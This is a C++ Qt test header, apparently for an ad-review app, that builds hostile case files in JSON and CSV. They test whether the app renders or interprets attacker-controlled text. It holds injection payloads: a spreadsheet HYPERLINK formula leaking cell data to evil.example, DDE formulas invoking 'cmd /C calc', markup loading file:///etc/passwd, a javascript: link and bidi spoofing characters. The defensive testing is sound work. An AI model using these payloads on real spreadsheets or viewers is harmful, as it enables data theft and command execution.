#pragma once

// What the hostile-content tests feed AdReview: text an attacker controls, in the files it really
// arrives in (case files in JSON and CSV), and the checks that say whether a widget or a document
// interpreted it: markup that loads a file or offers a link, controls that reorder the text around
// them, spreadsheet formulas.

#include "import/CaseImporter.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QObject>
#include <QString>
#include <QStringList>
#include <QTextBlock>
#include <QTextDocument>

namespace adreview::test::hostile {

using namespace Qt::StringLiterals;

inline const QString image = u"<img src=file:///etc/passwd>"_s;
inline const QString jsLink = u"<a href=\"javascript:alert(1)\">click</a>"_s;
inline const QString markup = u"<b>bold</b> <i>italic</i> <font color=red>red</font>"_s;
// A right-to-left override, the isolates (LRI, RLI, FSI, PDI) and the embeddings and overrides
// (LRE, RLE, PDF, LRO): each reorders what follows it unless its field is kept apart.
inline const QString bidi =
    u"\u202Egnp.exe \u2066ltr\u2069 \u2067rtl\u2069 \u2068first\u2069 \u202Aa\u202Bb\u202C \u202Dd"_s;
inline const QString hyperlink = u"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"_s;
inline const QString plusFormula = u"+1+cmd|' /C calc'!A0"_s;
inline const QString minusFormula = u"-2+3"_s;
inline const QString atFormula = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;

// A mebibyte of text that starts with markup and a right-to-left override.
inline QString huge()
{
    QString s = image + u" \u202E"_s;
    s.reserve(1 << 20);
    while (s.size() < (1 << 20))
        s += u"lorem ipsum dolor sit amet "_s;
    s.truncate(1 << 20);
    return s;
}

// Every stretch of a document that would load something or could be followed: images and links.
inline QStringList loadables(const QTextDocument &doc)
{
    QStringList out;
    for (QTextBlock b = doc.begin(); b.isValid(); b = b.next()) {
        for (auto it = b.begin(); !it.atEnd(); ++it) {
            const QTextCharFormat f = it.fragment().charFormat();
            if (f.isImageFormat())
                out << u"image "_s + f.toImageFormat().name();
            if (f.isAnchor() || !f.anchorHref().isEmpty())
                out << u"link "_s + f.anchorHref();
        }
    }
    return out;
}

// Text as a widget that guesses its format shows it (a tooltip, a label in Qt::AutoText): as
// markup when Qt::mightBeRichText() says it looks like some.
struct Shown {
    QString text;
    QStringList loadables;
};

inline Shown shownAs(const QString &text)
{
    if (!Qt::mightBeRichText(text))
        return {text, {}};
    QTextDocument doc;
    doc.setHtml(text);
    return {doc.toPlainText(), loadables(doc)};
}

// The documents under a widget (a label showing rich text keeps one, as does every text edit) and
// the images and links they hold.
inline QStringList loadablesUnder(const QObject *root)
{
    QStringList out;
    for (const QTextDocument *doc : root->findChildren<QTextDocument *>()) {
        for (const QString &l : loadables(*doc))
            out << (doc->parent() ? QString::fromLatin1(doc->parent()->metaObject()->className()) : QString()) +
                       u": "_s + l;
    }
    return out;
}

inline QJsonObject evidence(const QString &ref, const QString &kind, QJsonObject fields)
{
    fields.insert(u"ref"_s, ref);
    fields.insert(u"kind"_s, kind);
    fields.insert(u"reliability"_s, u"doubtful"_s);
    return fields;
}

// A case file with hostile text in every field that takes free text.
inline QByteArray caseFile()
{
    const QJsonArray policies{QJsonObject{{u"code"_s, u"ADS-HOSTILE"_s},
                                          {u"title"_s, image + u" policy "_s + bidi},
                                          {u"description"_s, jsLink + u' ' + markup}}};
    const QJsonArray advertisers{QJsonObject{{u"ref"_s, u"evil-corp"_s},
                                             {u"name"_s, image},
                                             {u"aliases"_s, QJsonArray{jsLink, bidi, atFormula}},
                                             {u"country"_s, u"US"_s},
                                             {u"headquarters"_s, markup},
                                             {u"industry"_s, jsLink},
                                             {u"website"_s, u"https://evil.example"_s}}};
    const QString attachment = QString::fromLatin1(QByteArray("plain bytes\n").toBase64());
    const QJsonArray items{evidence(u"EV-1"_s, u"news-citation"_s,
                                    {{u"title"_s, image},
                                     {u"publisher"_s, markup},
                                     {u"author"_s, bidi},
                                     {u"url"_s, u"http://evil.example/story?q=%3Cimg%3E&x=%E2%80%AE"_s},
                                     {u"published"_s, u"2018-05-01"_s},
                                     {u"excerpt"_s, jsLink + u'\n' + bidi + u'\n' + hyperlink}}),
                           evidence(u"EV-2"_s, u"agency-advisory"_s,
                                    {{u"agency"_s, jsLink},
                                     {u"title"_s, hyperlink},
                                     {u"reference"_s, plusFormula},
                                     {u"jurisdiction"_s, bidi},
                                     {u"issued"_s, u"2018-05-02"_s},
                                     {u"status"_s, u"in-force"_s},
                                     {u"excerpt"_s, markup}}),
                           evidence(u"EV-3"_s, u"company-statement"_s,
                                    {{u"title"_s, minusFormula},
                                     {u"source"_s, atFormula},
                                     {u"date"_s, u"2018-05-03"_s},
                                     {u"excerpt"_s, image},
                                     {u"attachment"_s, QJsonObject{{u"name"_s, u"<b>x</b> \u202Egnp.txt"_s},
                                                                   {u"type"_s, u"text/plain"_s},
                                                                   {u"data"_s, attachment}}}})};
    const QJsonArray history{QJsonObject{{u"action"_s, u"annotate"_s},
                                         {u"reviewer"_s, markup},
                                         {u"device"_s, u"laptop-m"_s},
                                         {u"at"_s, u"2018-05-05T10:00:00Z"_s},
                                         {u"rationale"_s, jsLink + u' ' + image}}};
    const QJsonArray cases{QJsonObject{{u"ref"_s, u"CASE-EVIL-1"_s},
                                       {u"advertiser"_s, u"evil-corp"_s},
                                       {u"policy"_s, u"ADS-HOSTILE"_s},
                                       {u"summary"_s, jsLink + u' ' + markup + u' ' + bidi},
                                       {u"priority"_s, u"high"_s},
                                       {u"source"_s, u"press"_s},
                                       {u"opened"_s, u"2018-05-01T08:00:00Z"_s},
                                       {u"due"_s, u"2018-07-01T08:00:00Z"_s},
                                       {u"evidence"_s, items},
                                       {u"history"_s, history}}};
    return QJsonDocument(QJsonObject{{u"format"_s, u"adreview-cases"_s},
                                     {u"version"_s, 1},
                                     {u"policies"_s, policies},
                                     {u"advertisers"_s, advertisers},
                                     {u"cases"_s, cases}})
        .toJson();
}

inline QByteArray csvField(const QString &s)
{
    QString quoted = s;
    quoted.replace(u'"', u"\"\""_s);
    return '"' + quoted.toUtf8() + '"';
}

inline QByteArray csvRow(const QStringList &fields)
{
    QByteArrayList out;
    for (const QString &f : fields)
        out << csvField(f);
    return out.join(',') + "\r\n";
}

// The same kind of text in the three CSV files, imported in their order.
inline QList<std::pair<QString, QByteArray>> csvFiles()
{
    return {{u"advertisers.csv"_s,
             "ref,name,aliases,country,headquarters,industry\r\n" +
                 csvRow({u"csv-corp"_s, hyperlink, plusFormula + u';' + image, u"GB"_s, bidi, atFormula})},
            {u"cases.csv"_s,
             "ref,advertiser,policy,summary,priority,source,opened,due\r\n" +
                 csvRow({u"CASE-CSV-1"_s, u"csv-corp"_s, u"ADS-HOSTILE"_s, plusFormula + u' ' + bidi, u"normal"_s,
                         u"user-report"_s, u"2018-05-10T08:00:00Z"_s, u"2018-07-10T08:00:00Z"_s})},
            {u"evidence.csv"_s, "case,ref,kind,title,source,date,url,excerpt,reliability\r\n" +
                                    csvRow({u"CASE-CSV-1"_s, u"EV-1"_s, u"internal-signal"_s, atFormula, markup,
                                            u"2018-05-11"_s, u"https://evil.example/x"_s, image, u"probable"_s})}};
}

// Imports the JSON case file and the CSV files; a refusal is fatal, naming its faults.
inline void importAll(Database &db, ReviewService &review)
{
    CaseImporter importer(db, review);
    auto checked = [](const Result<ImportReport> &r, const QString &name) {
        if (!r)
            qFatal("%s refused: %s\n%s", qPrintable(name), qPrintable(r.error().message),
                   qPrintable(r.error().details.join(u'\n')));
    };
    checked(importer.importJson(caseFile(), u"hostile.json"_s), u"hostile.json"_s);
    for (const auto &[name, bytes] : csvFiles())
        checked(importer.importCsv(bytes, name), name);
}

} // namespace adreview::test::hostile
